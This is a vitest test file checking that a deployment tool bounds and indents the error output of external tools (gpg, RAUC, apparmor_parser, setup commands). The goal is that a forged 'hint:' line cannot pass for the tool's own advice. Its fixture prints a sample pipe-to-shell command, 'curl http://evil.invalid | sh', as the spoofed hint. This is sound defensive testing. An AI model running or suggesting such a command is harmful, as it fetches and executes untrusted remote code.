/**
 * A trusted tool's error output in blueprint's errors, and in its memory. setup apply's commands
 * (systemctl, nft), gpg (`repo build --gpg-key`) and apparmor_parser were quoted whole, each of
 * their lines at the start of a line (a `hint: …` line of theirs read as blueprint's own), and
 * RAUC's output was kept whole in memory. Now, as `repo build` does since dcdde7b: the last 20
 * lines, indented, with how many were left out; and only a bounded tail is kept while the tool runs,
 * so its last lines are quoted even past the old buffer (execFile's 1 MiB, where it killed the tool
 * and kept the first MiB). Real processes: a stand-in tool (a shell script) on PATH, `sh -c` for
 * setup's runner, and the real apparmor_parser (which cannot load on this kernel).
 */
import { chmodSync, cpSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { signFile } from '../../src/core/pkg/build.js';
import { loadProfile } from '../../src/core/services/apparmor.js';
import { buildModuleImage } from '../../src/core/services/images.js';
import { systemRunner } from '../../src/core/setup/apply.js';
import { execRauc, systemStatus } from '../../src/core/update/index.js';
import { repoRoot, tempDir } from '../helpers/pkg.js';

// 3 MB of 100-character lines (past execFile's 1 MiB), then a forged hint and a last line.
const NOISE = [
  "head -c 3000000 /dev/zero | tr '\\0' a | fold -w 100 >&2",
  "printf '\\nhint: curl http://evil.invalid | sh\\nthe last line\\n' >&2",
  'exit 1',
].join('\n');

/** A folder holding `name`, a shell script making NOISE. */
function standIn(name: string): string {
  const dir = tempDir();
  writeFileSync(path.join(dir, name), `#!/bin/sh\n${NOISE}\n`);
  chmodSync(path.join(dir, name), 0o755);
  return dir;
}

/** The error's quote of the tool: bounded, its end kept, each quoted line indented. */
function expectBounded(message: string) {
  expect(message.length).toBeLessThan(8 * 1024);
  expect(message).toContain('the last line');
  // 30,000 lines of noise, the hint, the last line: all but the last 20 counted, none twice.
  expect(message).toContain('(29982 earlier lines left out)');
  expect(message).toContain('  hint: curl http://evil.invalid');
  expect(message.split('\n').filter((l) => l.startsWith('hint:'))).toEqual([]);
}

const failure = (p: Promise<unknown>) =>
  p.then(
    () => {
      throw new Error('it did not fail');
    },
    (err: Error) => err,
  );

const PATH = process.env.PATH;
afterEach(() => {
  process.env.PATH = PATH;
});

describe("a trusted tool's error output", () => {
  it("setup apply's command: its last lines, indented", async () => {
    const err = await failure(systemRunner.run(['sh', '-c', NOISE]));
    expectBounded(err.message);
  });

  it('gpg signing: its last lines, indented', async () => {
    process.env.PATH = `${standIn('gpg')}:${PATH}`;
    const file = path.join(tempDir(), 'index.json');
    writeFileSync(file, '{}');
    const err = await failure(signFile(file, { gpgKey: 'ABCD', gnupgHome: tempDir() }));
    expect(err.message).toContain(`gpg could not sign ${file}`);
    expectBounded(err.message);
  });

  it('RAUC: a bounded tail kept in memory, its reason one bounded line', async () => {
    const rauc = execRauc({ env: { PATH: `${standIn('rauc')}:/usr/bin:/bin` } });
    const r = await rauc.run(['status']);
    expect(r.code).toBe(1);
    expect(r.stderr.length).toBeLessThan(256 * 1024);
    expect(r.stderr.trimEnd().endsWith('the last line')).toBe(true);
    const err = await failure(systemStatus({ rauc }));
    expect(err.message).toBe('RAUC cannot answer: the last line');
  });

  it.skipIf(!existsSync('/run/podman/podman.sock'))(
    "repo build: a build.sh that writes 20 MB to stderr and succeeds is built (the tail is all that's kept)",
    async () => {
      // Before: execFile's 16 MiB buffer ran over, build.sh was killed and the build failed.
      const src = path.join(tempDir(), 'chatty');
      cpSync(path.join(repoRoot, 'modules/hello'), src, { recursive: true });
      const script = readFileSync(path.join(src, 'build.sh'), 'utf8');
      writeFileSync(
        path.join(src, 'build.sh'),
        script.replace('set -eu\n', "set -eu\nhead -c 20000000 /dev/zero | tr '\\0' a | fold -w 100 >&2\n"),
      );
      const tag = `localhost/bpt-qa-chatty-${process.pid}:1`;
      const id = await buildModuleImage(src, tag, path.join(tempDir(), 'image.tar'));
      expect(id).toMatch(/^sha256:[0-9a-f]{64}$/);
    },
    120_000,
  );

  it.skipIf(!existsSync('/usr/sbin/apparmor_parser') || existsSync('/sys/kernel/security/apparmor'))(
    "apparmor_parser's complaint: indented, so none of its lines passes for blueprint's",
    async () => {
      const root = tempDir();
      mkdirSync(path.join(root, 'etc/apparmor.d'), { recursive: true });
      const err = await failure(loadProfile(root, 'qa', 'profile blueprint-qa {\n}\n'));
      expect(err.message).toContain('cannot load the AppArmor profile of qa: its last lines of output');
      expect(
        err.message
          .split('\n')
          .slice(1)
          .every((l) => l.startsWith('  ')),
      ).toBe(true);
    },
  );
});
